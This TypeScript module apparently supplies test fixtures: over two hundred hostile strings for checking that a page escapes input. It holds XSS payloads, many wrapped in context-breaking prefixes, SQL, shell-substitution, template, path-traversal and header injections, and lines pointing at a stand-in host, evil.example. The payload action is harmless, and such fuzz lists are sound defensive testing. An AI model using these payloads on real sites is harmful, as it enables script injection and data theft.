/** Strings that a page without escaping would execute, or that would break its layout. */

/** Script that each attack tries to execute. */
const act = 'globalThis.ran=1';

const markup = [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<svg/onload=${act}>`,
  `<iframe srcdoc="<script>${act}</script>">`,
  `<a href="javascript:${act}">x</a>`,
  `<body onpageshow=${act}>`,
  `<details open ontoggle=${act}>`,
  `<math><mtext></mtext><script>${act}</script></math>`,
  `<style>@import 'http://evil.example/x.css';</style>`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<base href="http://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<form action=http://evil.example/><button autofocus>`,
  `<object data="javascript:${act}">`,
  `<template><script>${act}</script></template>`,
  `<img src=http://evil.example/x>`,
];

const around: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"${text}`,
  (text) => `'>${text}`,
  (text) => `</pre></code></textarea></title>${text}`,
  (text) => `]]>--></script>${text}`,
  (text) => text.repeat(3),
  (text) => `\u2028${text}\u2029`,
  (text) => `\u202e${text}`,
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => text.replaceAll('<', '&lt;'),
];

/** Strings without script. */
const plain = [
  `javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  '\u0000nul',
  'x'.repeat(5000),
  'é̂'.repeat(300),
  '👩‍👩‍👧‍👦'.repeat(100),
  `' OR 1=1 --`,
  `$(touch x); \`touch y\``,
  `#/config?path=/admin`,
  `/../../admin`,
  `..%2f..%2f`,
  ` `,
  `\r\nSet-Cookie: a=b`,
  `\ud800`,
  `-1`,
  `NaN`,
  `null`,
  `[object Object]`,
  `//evil.example/x`,
];

/** List of at least two hundred attack strings. */
export const hostile: readonly string[] = [...around.flatMap((each) => markup.map(each)), ...plain];
